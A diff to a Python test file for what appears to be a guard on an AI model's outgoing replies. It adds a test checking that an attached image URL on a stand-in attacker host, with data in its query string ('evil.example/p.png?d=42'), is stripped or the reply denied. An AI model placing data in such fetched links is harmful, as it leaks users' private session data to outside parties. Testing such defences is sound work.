@@ -50,11 +50,13 @@ def test_a_secret_of_a_certain_shape_is_not_shown_to_the_model(outside):
 CLEARED = policy_set(replaced(('replies = "allow"', 'replies = "allow"\nclearance = "internal"')))
 
 
-def reply(text: str, label: Label = INSIDE):
+def reply(text: str, label: Label = INSIDE, media: str = "", delivers: str = ""):
     desk = Desk(CLEARED)
     desk.run(message("see https://said.example/x"))
     desk.apply(Unit(changes=[JoinLabel("sample/s", label)]))
-    return desk.run(noticed(message(text, action=Action.SEND_REPLY), None))
+    wanted = message(text, action=Action.SEND_REPLY)
+    sent = {**wanted.arguments, "media": [media] if media else []}
+    return desk.run(noticed(replace(wanted, arguments=sent, delivers=delivers), None))
 
 
 def test_a_link_the_model_made_up_is_defused_in_a_session_that_holds_more_than_public_data():
@@ -70,6 +72,15 @@ def test_a_picture_is_removed_and_plain_text_passes_untouched():
     assert isinstance(decided.decision, Permit)
     assert "evil.example/p.png" not in (decided.decision.text or "")
     assert reply("hi").decision.text is None
+
+
+def test_what_is_fetched_beside_the_text_stays_behind():
+    decided = reply("hi", media="https://evil.example/p.png?d=42")
+    assert isinstance(decided.decision, Permit)
+    assert decided.decision.text == "hi"
+    on_its_way = reply("hi", media="https://evil.example/p.png?d=42", delivers="other")
+    assert isinstance(on_its_way.decision, Deny)
+    assert reply("hi", media="chart.png").decision.text is None
 
 
 def test_public_sessions_may_link_as_they_like():
